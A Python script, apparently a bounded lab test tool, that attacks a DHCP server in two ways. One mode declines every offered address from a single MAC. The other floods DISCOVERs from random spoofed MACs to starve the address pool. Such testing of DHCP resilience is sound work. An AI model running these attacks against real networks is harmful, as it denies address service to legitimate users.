"""DHCP attacks, run inside a client namespace (bounded in count and time, lab addresses only).

    dhcp_attack.py decline COUNT     one MAC: DISCOVER, then DECLINE the offered address, COUNT times
    dhcp_attack.py flood COUNT       COUNT DISCOVERs, each from a new random MAC, never REQUESTed

Prints one summary line `DONE key=value ...`. Packets are built with struct (a flood of 20k must
not wait on scapy's 150 µs per packet); replies are parsed only as far as the attack needs.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import time

SERVER = ("10.20.17.254", 67)
BROADCAST = ("255.255.255.255", 67)
MAGIC = b"\x63\x82\x53\x63"
DEADLINE = 60.0  # seconds: no attack runs longer, whatever happens


def packet(mac: bytes, xid: int, options: bytes) -> bytes:
    header = struct.pack("!BBBBIHHIIII", 1, 1, 6, 0, xid, 0, 0x8000, 0, 0, 0, 0)
    return header + mac + bytes(10) + bytes(64) + bytes(128) + MAGIC + options + b"\xff"


def option(code: int, value: bytes) -> bytes:
    return bytes((code, len(value))) + value


def parse_reply(data: bytes) -> tuple[int, int, bytes, dict[int, bytes]] | None:
    """(xid, message type, yiaddr, options) of a BOOTREPLY, or None."""
    if len(data) < 240 or data[0] != 2 or data[236:240] != MAGIC:
        return None
    xid = struct.unpack("!I", data[4:8])[0]
    yiaddr = data[16:20]
    options: dict[int, bytes] = {}
    i = 240
    while i < len(data) and data[i] != 255:
        if data[i] == 0:
            i += 1
            continue
        if i + 1 >= len(data):
            break
        code, length = data[i], data[i + 1]
        options[code] = data[i + 2:i + 2 + length]
        i += 2 + length
    kind = options.get(53, b"\0")[0]
    return xid, kind, yiaddr, options


def open_socket() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    sock.bind(("0.0.0.0", 68))
    return sock


def wait_offer(sock: socket.socket, xid: int, deadline: float) -> tuple[bytes, bytes] | None:
    """(yiaddr, server id) of the OFFER for `xid`, or None after one second."""
    sock.settimeout(0.2)
    end = min(time.monotonic() + 1.0, deadline)
    while time.monotonic() < end:
        try:
            data = sock.recv(4096)
        except TimeoutError:
            continue
        reply = parse_reply(data)
        if reply is not None and reply[0] == xid and reply[1] == 2:
            return reply[2], reply[3].get(54, b"")
    return None


def decline(count: int) -> str:
    sock = open_socket()
    mac = bytes([0x02, 0xDE, 0xC1]) + os.urandom(3)
    deadline = time.monotonic() + DEADLINE
    declined = set()
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        xid = random.getrandbits(32)
        sock.sendto(packet(mac, xid, option(53, b"\x01")), BROADCAST)
        offer = wait_offer(sock, xid, deadline)
        if offer is None:
            continue
        yiaddr, server_id = offer
        sock.sendto(packet(mac, xid, option(53, b"\x04") + option(50, yiaddr) + option(54, server_id)), BROADCAST)
        declined.add(yiaddr)
    return f"mac={mac.hex(':')} distinct_declined={len(declined)}"


def flood(count: int) -> str:
    sock = open_socket()
    sock.setblocking(False)
    deadline = time.monotonic() + DEADLINE
    sent = offers = 0
    while sent < count and time.monotonic() < deadline:
        mac = bytes([0x02, 0xF1]) + os.urandom(4)
        try:
            sock.sendto(packet(mac, random.getrandbits(32), option(53, b"\x01")), BROADCAST)
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        while True:  # drain the OFFERs so that our own buffer never blocks the kernel
            try:
                data = sock.recv(4096)
            except BlockingIOError:
                break
            reply = parse_reply(data)
            offers += reply is not None and reply[1] == 2
        if sent % 500 == 0:
            time.sleep(0.02)  # bounded rate: ~20k/s at most, the appliance's socket buffer decides the rest
    return f"sent={sent} offers={offers}"


def main() -> int:
    mode, count = sys.argv[1], int(sys.argv[2])
    summary = {"decline": decline, "flood": flood}[mode](count)
    print(f"DONE {summary}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
